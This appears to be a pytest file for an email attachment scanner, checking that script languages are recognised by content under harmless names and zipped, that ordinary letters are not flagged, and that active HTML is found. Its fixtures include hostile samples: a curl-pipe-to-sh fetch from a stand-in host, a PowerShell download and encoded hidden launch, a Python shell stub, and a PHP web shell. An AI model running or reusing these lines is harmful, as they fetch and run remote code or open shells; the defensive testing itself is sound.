"""Scripts under harmless names, by their lines, and pages that act; letters that speak of commands are neither."""

import pytest

from scanners import active
from scanners.attachments.scripts import language
from scanners.attachments.yara import YaraEngine
from tests.scanners.attachments.samples import look, zipped
from tests.scanners.test_active import ACTS

SCRIPTS = {
    "$c = New-Object System.Net.WebClient\r\n$c.DownloadFile('http://x.test/a', \"$env:TEMP\\a\")\r\n": "powershell",
    "powershell -nop -w hidden -enc SQBFAFgA\r\n": "powershell",
    "$a = Get-Process\r\nStart-Process calc\r\n": "powershell",
    "@echo off\r\nset A=%TEMP%\\x\r\n": "batch",
    "setlocal\r\nif not exist %TEMP%\\a.exe copy /y a %TEMP%\r\ngoto end\r\n:end\r\n": "batch",
    "Dim s\r\nSet s = CreateObject(\"WScript.Shell\")\r\ns.Run \"calc\", 0\r\n": "vbscript",
    "var s = new ActiveXObject('WScript.Shell');\r\ns.Run('cmd /c calc');\r\n": "jscript",
    "<html><script language=\"VBScript\">x</script></html>": "vbscript",
    "<HTA:APPLICATION ID=x>\r\n": "hta",
    "<job id=\"x\">\r\n<script language=\"JScript\">x</script></job>": "wsf",
    "<?xml version=\"1.0\"?><scriptlet><registration progid=\"x\"/></scriptlet>": "scriptlet",
    "Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software]\r\n": "registry",
    "[version]\r\nSignature=$chicago$\r\n[DefaultInstall]\r\n": "setup information",
    "; x\r\n[InternetShortcut]\r\nURL=file://192.0.2.1/a.exe\r\n": "shortcut",
    "[Desktop Entry]\nExec=sh -c 'id'\n": "shortcut",
    "full address:s:192.0.2.1\r\nredirectdrives:i:1\r\n": "remote desktop",
    "<?xml version=\"1.0\"?><jnlp spec=\"1.0+\"></jnlp>": "java web start",
    "WEB\r\n1\r\nhttp://x.test/a.dat\r\n": "web query",
    "curl -s http://x.test/a | sh\n": "shell",
    "import os, socket, subprocess\ns=socket.socket()\nsubprocess.call(['/bin/sh','-i'])\n": "python",
    "<?php system($_GET['c']);": "php",
}  # fmt: skip


@pytest.mark.parametrize("source", SCRIPTS)
def test_a_script_is_known_by_its_lines(source: str) -> None:
    assert language(source) == SCRIPTS[source]


@pytest.mark.parametrize("source", SCRIPTS)
def test_under_any_name(engine: YaraEngine, source: str) -> None:
    for name, data in (
        ("a.txt", source.encode()),
        ("a.log", source.encode("utf-16")),
        ("a.zip", zipped({"readme.txt": source})),
    ):
        codes = look(engine, name, data).codes
        assert codes & {"attachment.script", "attachment.dangerous_type"}, name


def test_a_name_that_says_so_is_enough(engine: YaraEngine) -> None:
    codes = look(engine, "a.bat", b"@echo off\r\n").codes
    assert "attachment.script" not in codes
    assert "attachment.dangerous_type" in codes


@pytest.mark.parametrize(
    "text",
    [
        "Dear all,\r\nplease set the machine to 5 bar, start the pump and pause.\r\nDim the light.\r\n",
        "To install, run setup and import the certificates from the folder.\r\nset up = 5\r\n",
        "import duties:\n 5 %\nfrom Shanghai to Hamburg\n",
        "编号,数量\r\n1,2\r\n",
        "[General]\r\nName=x\r\n[Version]\r\nNumber=1\r\n",
        "We will ask curl or wget to fetch it.\n$ 500 = USD\n$total = 300\n",
    ],
)
def test_letters_are_none(text: str) -> None:
    assert language(text) == ""


@pytest.mark.parametrize("source", ACTS)
def test_pages_that_act(engine: YaraEngine, source: str) -> None:
    seen = look(engine, "a.html", f"<html><body><p>hello</p>{source}</body></html>".encode())
    assert (active.ACTIVE.code, ACTS[source]) in {(one.code, one.about) for one in seen.answer.findings}
